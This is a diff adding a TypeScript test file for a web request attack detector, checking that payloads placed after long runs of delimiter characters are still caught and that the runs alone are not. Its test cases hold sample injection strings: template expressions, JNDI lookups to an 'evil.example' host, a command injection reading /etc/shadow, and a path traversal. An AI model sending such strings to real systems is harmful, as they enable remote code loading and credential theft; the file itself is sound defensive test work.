@@ -1,0 +1,42 @@
+// Long runs of the bytes the detectors key on ("{{{{…", "${${…", newlines, "..;..;…") used to make the
+// attack detectors quadratic: 8 KiB of "{{" took 0.4 s, so one 1 MiB body could hold an Envoy worker for a
+// minute. The detectors now skip what they already read (filter/inspect/attack.ts); the speed is measured in
+// bench/inspect-bench.ts. Here: a payload after such a run is still found, and the run alone is not an attack.
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { loadHarnessExports, withBytes } from "./harness.ts";
+
+const CLASSES = ["sqli", "xss", "traversal", "rfi", "cmdi", "ssrf", "xxe", "jndi", "ssti"];
+const h = loadHarnessExports() as ReturnType<typeof loadHarnessExports> & { attackAny(p: number, n: number): number };
+const detect = (v: string) => withBytes(h, v, (p, n) => { const c = h.attackAny(p, n); return c === 255 ? "none" : CLASSES[c]; });
+
+const cases: Array<[string, string, string]> = [
+  // [run, payload after it, class]
+  ["{{", "{{7*7}}", "ssti"],
+  ["{% ", "{{ config.items() }}", "ssti"],
+  ["<% ", "<%= 7*7 %>", "ssti"],
+  ["${", "${jndi:ldap://evil.example/a}", "jndi"],
+  ["${x:", "${jndi:rmi://evil.example/a}", "jndi"],
+  ["\n", "; cat /etc/shadow", "cmdi"],
+  [" \n", "| id", "cmdi"],
+  ["..;", "/../../../etc/hosts", "traversal"],
+];
+
+test("a payload after a long run of delimiters is still found", () => {
+  for (const [run, payload, cls] of cases) {
+    const v = run.repeat(Math.ceil(3000 / run.length)) + payload;
+    assert.equal(detect(v), cls, `${JSON.stringify(run)} x ${Math.ceil(3000 / run.length)} then ${payload}`);
+  }
+});
+
+test("a run of delimiters followed by a template expression far from any opening is judged by the nearest one", () => {
+  // An unclosed "{{" reads at most 256 bytes: a marker 1,000 bytes of prose later is not part of it.
+  assert.equal(detect("{{ " + "lorem ipsum ".repeat(90) + " 7*7"), "none");
+  assert.equal(detect("{{ 7*7"), "ssti");
+});
+
+test("runs of delimiters alone are not attacks", () => {
+  for (const run of ["\n", " \n", "..;", "{%", "<%"]) {
+    assert.equal(detect(run.repeat(2000)), "none", JSON.stringify(run));
+  }
+});
